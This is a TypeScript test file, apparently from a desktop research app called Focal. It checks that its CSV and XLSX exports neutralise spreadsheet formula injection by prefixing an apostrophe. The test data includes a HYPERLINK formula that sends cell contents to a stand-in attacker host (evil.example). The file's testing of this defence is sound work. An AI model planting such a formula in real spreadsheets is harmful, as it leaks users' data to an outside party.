/**
 * CSV formula injection: every CSV Focal writes (matrix, participant register, audit) writes a text
 * cell starting with =, +, -, @, a tab or a carriage return with a leading apostrophe (OWASP), and an
 * XLSX keeps such a value as a string, never a formula.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditCsv, recordExport } from '../../../electron/core/audit/export-audit';
import { safeCell, safeCsv } from '../../../electron/core/export/csv-safe';
import { runMatrix } from '../../../electron/core/matrix/matrix';
import { matrixCsv, matrixXlsx } from '../../../electron/core/matrix/matrix-export';
import { testCore } from '../../support/core';

const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();

/** No cell a spreadsheet would read as a formula; each attack is there, apostrophe first. */
function expectDefused(csv: string, attacks: string[]) {
  const cells = cellsOf(csv);
  for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  for (const a of attacks) expect(cells).toContain(`'${a}`);
}

describe('csv-safe', () => {
  it('prefixes formula starts, leaves numbers and plain text alone', () => {
    expect(ATTACKS.map(safeCell)).toEqual(ATTACKS.map((a) => `'${a}`));
    expect([safeCell(-2), safeCell('Whānau'), safeCell('a=b'), safeCell('')]).toEqual([-2, 'Whānau', 'a=b', '']);
    const csv = safeCsv([['=1', 2]], { fields: ['@h', 'b'], bom: true, trailingNewline: true });
    expect(csv).toBe("\uFEFF'@h,b\r\n'=1,2\r\n");
  });

  describe('in every writer', () => {
    const { api, core, path } = testCore();
    const codeIds: number[] = [];

    const second = testCore();
    beforeAll(async () => {
      await api['project-new']({ name: 'Injection', path: path('inj.focal') });
      const frameId = (await api['frames-list']({}))[0]!.id;
      for (const name of ATTACKS.slice(0, 4)) codeIds.push((await api['code-create']({ frameId, name })).id);
      for (const name of ATTACKS.slice(0, 4)) await api['participant-create']({ name, role: name });
    });

    it('matrix CSV', () => {
      const m = runMatrix(core.requireProject().db, { codeIds, cols: 'role' });
      expectDefused(matrixCsv(m), ATTACKS.slice(0, 4));
    });

    it('matrix XLSX keeps them as strings, not formulas', async () => {
      const m = runMatrix(core.requireProject().db, { codeIds, cols: 'role' });
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load((await matrixXlsx(m, 'Matrix')) as unknown as ArrayBuffer);
      const ws = wb.getWorksheet('Segments')!;
      const firstCol = [2, 3, 4, 5].map((r) => ws.getRow(r).getCell(1));
      expect(firstCol.map((c) => c.type)).toEqual(new Array(4).fill(ExcelJS.ValueType.String));
      expect(firstCol.map((c) => c.value)).toEqual(ATTACKS.slice(0, 4));
    });

    it('register export through the API', async () => {
      const { csv } = await api['participants-export-csv']({});
      expectDefused(csv, ATTACKS.slice(0, 4));
    });

    it('a register exported by Focal imports back as written (the guard apostrophe is dropped)', async () => {
      const { csv } = await api['participants-export-csv']({});
      const other = second.api;
      await other['project-new']({ name: 'Round trip', path: second.path('rt.focal') });
      await other['participants-import-csv']({ fileName: 'register.csv', csv });
      const names = (await other['participants-list']({})).map((p) => p.name);
      for (const a of ATTACKS.slice(0, 4)) expect(names).toContain(a);
    });

    it('audit CSV', () => {
      core.state.setPrefs({ userName: '@SUM(A1:A9)' });
      try {
        recordExport(core, { format: 'csv', profile: 'report', destination: '=HYPERLINK("http://evil.example/?x="&A1,"click")', sha256: null, quotes: [], action: 'test-export' });
      } finally {
        core.state.setPrefs({ userName: 'Test Coder' });
      }
      expectDefused(auditCsv(core.requireProject().db), ['@SUM(A1:A9)', '=HYPERLINK("http://evil.example/?x="&A1,"click")']);
    });
  });
});
